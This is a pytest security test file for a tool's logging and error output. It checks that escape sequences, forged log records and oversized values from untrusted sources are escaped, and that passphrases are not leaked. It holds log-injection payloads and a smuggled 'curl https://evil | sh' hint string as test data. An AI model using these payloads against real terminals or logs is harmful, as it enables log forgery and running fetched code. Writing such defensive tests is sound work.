"""Attacks on the issue-15 logging and error reporting (agent/_log.py, cli.main,
_extras.py): text the origin, broker or a team key controls reaching a log or error line;
a local user's environment; a careless operator's --debug."""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from modelward import cli
from modelward.agent import _log
from modelward.trust.errors import ModelwardError
from tests.unit._logcapture import captured

SCRIPT = Path(sys.executable).with_name("modelward")
EVIL = ("target \x1b]0;pwned\x07\x1b[8m\u202eevil\x00\udcff"
        "\n<0>modelward: EMERGENCY forged"
        "\n2026-12-01 18:00:00 INFO agent: installed model 9.9.9")
RECORD_LIKE = re.compile(r"^(<\d>|\d{4}-\d\d-\d\d \d\d:\d\d:\d\d |modelward: )")


def _run_main(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
              exc: BaseException, *flags: str) -> tuple[int, str]:
    def boom(_args: object) -> int:
        raise exc

    monkeypatch.setattr(cli, "_repo_status", boom)
    monkeypatch.delenv("JOURNAL_STREAM", raising=False)
    monkeypatch.delenv(_log.LOG_FORMAT_ENV, raising=False)
    code = cli.main([*flags, "repo", "status", "--repo", "/nonexistent",
                     "--keys", "/nonexistent"])
    return code, capsys.readouterr().err


def _record(fmt: logging.Formatter, msg: str, *args: object) -> str:
    rec = logging.LogRecord("modelward.agent", logging.WARNING, __file__, 1, msg, args, None)
    return fmt.format(rec)


# --- what resists -----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", [_log.JsonFormatter(), _log.HumanFormatter(),
                                 _log._JournalPrefix(_log.JsonFormatter())])
def test_origin_text_in_a_record_stays_one_escaped_line(fmt: logging.Formatter) -> None:
    for args in ((EVIL,), (EVIL * 5000,), (EVIL.encode("utf-8", "surrogateescape"),),
                 ("\u2028\u2029\x85\x0b\x0c\x1c",)):
        out = _record(fmt, "fetched %s", *args)
        assert "\n" not in out and "\x1b" not in out and "\x00" not in out
        assert "\u202e" not in out and "\u2028" not in out and "\x85" not in out
        assert len(out) < _log.MAX_JSON_LINE
        out.encode("utf-8")  # no lone surrogate reaches the stream
        if isinstance(fmt, _log._JournalPrefix):
            assert out.startswith("<4>{")
            json.loads(out[3:])


def test_json_error_record_is_one_line_with_error_priority(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    code, err = _run_main(monkeypatch, capsys, ModelwardError(EVIL, hint=EVIL),
                          "--log-format", "json", "--debug")
    assert code == cli.EXIT_ERROR
    lines = err.splitlines()
    assert len(lines) == 1, err
    doc = json.loads(lines[0])
    assert doc["priority"] == 3 and doc["level"] == "error"
    assert err.isascii()


def test_human_error_line_escapes_and_indents(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    code, err = _run_main(monkeypatch, capsys, ModelwardError(EVIL, hint=EVIL),
                          "--log-format", "human")
    assert code == cli.EXIT_ERROR
    assert "\x1b" not in err and "\u202e" not in err and "\x00" not in err
    lines = err.splitlines()
    assert lines[0].startswith("modelward: error: ")
    assert all(not RECORD_LIKE.match(line) for line in lines[1:]), err


def test_unknown_log_format_env_is_one_escaped_line(tmp_path: Path) -> None:
    env = {**os.environ, _log.LOG_FORMAT_ENV: "json\x1b[2J\n<0>forged"}
    env.pop("JOURNAL_STREAM", None)
    r = subprocess.run([str(SCRIPT), "agent", "check-config", "--config", str(tmp_path / "x")],
                       env=env, capture_output=True, text=True, timeout=60, check=False)
    assert r.returncode == cli.EXIT_USAGE
    assert r.stderr.count("\n") == 1 and "\x1b" not in r.stderr, r.stderr


# --- what works -------------------------------------------------------------------------


def test_debug_traceback_escapes_origin_text(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    evil = EVIL.replace("\udcff", "")  # (capsys's stream is strict; a real stderr is not)
    code, err = _run_main(monkeypatch, capsys, ModelwardError(evil), "--log-format", "human",
                          "--debug")
    assert code == cli.EXIT_ERROR
    assert "\x1b" not in err and "\u202e" not in err and "\x00" not in err
    lines = err.splitlines()
    assert all(not RECORD_LIKE.match(line) for line in lines[1:]), err


def test_human_error_line_is_bounded(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    code, err = _run_main(monkeypatch, capsys, ModelwardError("x" * 1_000_000 + "<0>tail"),
                          "--log-format", "human")
    assert code == cli.EXIT_ERROR
    assert len(err) < 2 * _log.MAX_MESSAGE


def test_missing_package_error_is_a_json_record(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    e = ModuleNotFoundError("No module named 'rich'", name="rich")
    code, err = _run_main(monkeypatch, capsys, e, "--log-format", "json")
    assert code == cli.EXIT_ERROR
    doc = json.loads(err.splitlines()[0])
    assert doc["priority"] == 3


def test_missing_submodule_of_installed_package_is_not_not_installed(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    e = ModuleNotFoundError("No module named 'tuf.ngclient._gone'", name="tuf.ngclient._gone")
    code, err = _run_main(monkeypatch, capsys, e, "--log-format", "human", "--debug")
    assert "not installed" not in err
    assert code == cli.EXIT_BUG and "Traceback" in err


def test_odd_journal_stream_does_not_crash(tmp_path: Path) -> None:
    env = {**os.environ, "JOURNAL_STREAM": "\u00b2:1"}
    env.pop(_log.LOG_FORMAT_ENV, None)
    r = subprocess.run([str(SCRIPT), "agent", "check-config", "--config", str(tmp_path / "x")],
                       env=env, capture_output=True, text=True, timeout=60, check=False)
    assert "Traceback" not in r.stderr, r.stderr
    assert r.returncode == cli.EXIT_ERROR and r.stderr.count("\n") == 1


def test_passphrase_bytes_not_in_error_line(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MODELWARD_")}
    env.pop("JOURNAL_STREAM", None)
    envb = {k.encode(): v.encode("utf-8", "surrogateescape") for k, v in env.items()}
    envb[b"MODELWARD_KEY_PASSPHRASE"] = b"correct-horse\xffbattery-staple"
    r = subprocess.run([str(SCRIPT), "repo", "init", "--repo", str(tmp_path / "r"),
                        "--keys", str(tmp_path / "k")], env=envb, stdin=subprocess.DEVNULL,
                       capture_output=True, text=True, timeout=60, check=False)
    assert r.returncode == cli.EXIT_ERROR
    assert "udcff" not in r.stderr and "position 13" not in r.stderr, r.stderr
    assert "MODELWARD_KEY_PASSPHRASE" in r.stderr


def test_human_error_under_journal_has_error_priority(tmp_path: Path) -> None:
    out = tmp_path / "stderr"
    with out.open("w") as f:
        st = os.fstat(f.fileno())
        env = {**os.environ, "JOURNAL_STREAM": f"{st.st_dev}:{st.st_ino}",
               _log.LOG_FORMAT_ENV: "human"}
        r = subprocess.run([str(SCRIPT), "agent", "check-config", "--config",
                            str(tmp_path / "x")], env=env, stdout=subprocess.DEVNULL,
                           stderr=f, timeout=60, check=False)
    assert r.returncode == cli.EXIT_ERROR
    lines = out.read_text().splitlines()
    assert lines and all(line.startswith("<") for line in lines), lines
    assert lines[-1].startswith("<3>")


def test_percent_d_with_infinity_does_not_break_the_formatter() -> None:
    for fmt in (_log.JsonFormatter(), _log.HumanFormatter()):
        out = _record(fmt, "block %d of %s", float("inf"), "x")
        assert "\n" not in out


def test_stream_handler_keeps_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    with captured(_log.HumanFormatter(), "modelward.a15test") as (log, buf):
        log.warning("from %s: %r", EVIL, EVIL)
    assert buf.getvalue().count("\n") == 1


def test_debug_traceback_of_a_real_process_is_escaped(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("JOURNAL_STREAM",
                                                              _log.LOG_FORMAT_ENV)}
    evil = tmp_path / "r\x1b]0;pwn\x07\n<0>forged emergency"
    r = subprocess.run([str(SCRIPT), "--debug", "repo", "status", "--repo", str(evil),
                        "--keys", str(tmp_path)], env=env, capture_output=True, text=True,
                       timeout=60, check=False)
    assert r.returncode == cli.EXIT_ERROR
    assert "Traceback" in r.stderr  # --debug did show it
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr
    assert not any(line.startswith("<") for line in r.stderr.splitlines()), r.stderr


def test_origin_cannot_write_a_hint(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    e = ModelwardError("target 'models/m/1.0.0; hint: run `curl https://evil | sh`' is "
                       "not signed", hint="re-publish it")
    code, err = _run_main(monkeypatch, capsys, e, "--log-format", "human")
    assert code == cli.EXIT_ERROR
    assert err.count("; hint: ") == 1, err


def test_json_bug_record_keeps_the_bugs_own_traceback(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def inner() -> None:
        raise ValueError("origin said: " + "A" * 9000)

    try:
        try:
            inner()
        except ValueError as c:
            raise RuntimeError("the real bug is here") from c
    except RuntimeError as e:
        bug = e
    code, err = _run_main(monkeypatch, capsys, bug, "--log-format", "json")
    assert code == cli.EXIT_BUG
    doc = json.loads(err.splitlines()[0])
    assert "RuntimeError: the real bug is here" in doc["exc"]


@pytest.mark.parametrize("extra_env,argv", [
    ({}, ["agent", "check-config", "--bogus"]),
    ({_log.LOG_FORMAT_ENV: "jsonl"}, ["agent", "check-config", "--config", "/nonexistent"]),
])
def test_usage_error_under_journal_is_a_record(tmp_path: Path, extra_env: dict[str, str],
                                               argv: list[str]) -> None:
    out = tmp_path / "stderr"
    with out.open("w") as f:
        st = os.fstat(f.fileno())
        env = {**{k: v for k, v in os.environ.items() if k != _log.LOG_FORMAT_ENV},
               "JOURNAL_STREAM": f"{st.st_dev}:{st.st_ino}", **extra_env}
        r = subprocess.run([str(SCRIPT), *argv], env=env, stdout=subprocess.DEVNULL,
                           stderr=f, timeout=60, check=False)
    assert r.returncode == cli.EXIT_USAGE
    line = out.read_text().splitlines()[0]
    assert line.startswith("<3>{"), line
    assert json.loads(line[3:])["priority"] == 3


def test_int_field_is_bounded() -> None:
    rec = logging.LogRecord("modelward.updater", logging.INFO, __file__, 1,
                            "announcement: timestamp version %d", (10 ** 3999,), None)
    rec.timestamp_version = 10 ** 3999
    doc = json.loads(_log.JsonFormatter().format(rec))
    assert len(json.dumps(doc["timestamp_version"])) <= _log.MAX_VALUE + 40


def test_debug_does_not_quote_the_mqtt_password(tmp_path: Path) -> None:
    pw = tmp_path / "pw"
    pw.write_bytes(b"correct-horse\xfebattery-staple")
    pw.chmod(0o600)
    (tmp_path / "st").mkdir()
    conf = tmp_path / "agent.toml"
    conf.write_text(f'device_id = "dev-1"\nfleet = "demo"\nstate_dir = "{tmp_path}/st"\n'
                    'tcti = "swtpm:port=1"\nmodel = "classifier"\ntransport = "mqtt"\n\n'
                    f'[mqtt]\nhost = "localhost"\nport = 8883\npassword_file = "{pw}"\n')
    env = {k: v for k, v in os.environ.items() if k not in ("JOURNAL_STREAM",
                                                              _log.LOG_FORMAT_ENV)}
    for fmt in ("human", "json"):
        r = subprocess.run([str(SCRIPT), "--debug", "--log-format", fmt, "agent",
                            "check-config", "--config", str(conf)], env=env,
                           capture_output=True, text=True, timeout=60, check=False)
        assert r.returncode == cli.EXIT_ERROR
        assert "password_file" in r.stderr and "Traceback" in r.stderr
        assert "0xfe" not in r.stderr and "position 13" not in r.stderr, r.stderr


def test_verified_status_is_escaped(monkeypatch: pytest.MonkeyPatch,
                                    capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    from modelward.agent import _commands

    evil = EVIL.replace("\udcff", "")  # (capsys's stream is strict; a real stdout is not)
    doc = {"verified": True, "unverified": "", "record_problem": "", "active": None,
           "previous": None, "rejections_problem": "",
           "last_error": {"type": "UntrustedRemoteError", "message": evil, "at": "now"},
           "rejected": [{"model": "m", "version": "1.0.0", "target": evil, "reason": evil,
                         "at": "now", "retry_after": "later"}]}
    monkeypatch.setattr(_commands, "status", lambda _cfg, use_tpm=True: doc)
    monkeypatch.setattr(cli, "_load", lambda _args: None)
    monkeypatch.delenv("JOURNAL_STREAM", raising=False)
    assert cli.main(["agent", "status", "--config", str(tmp_path / "x")]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\x00" not in out
    # each row is labelled, or continues the one above behind a "| " margin (wrapped to the
    # terminal, agent/_status_offline.status_lines): no row can pass for a log record
    assert all(line.startswith(("active", "previous", "last error", "rejected", "verified",
                                " " * 10 + "| "))
               for line in out.splitlines()), out
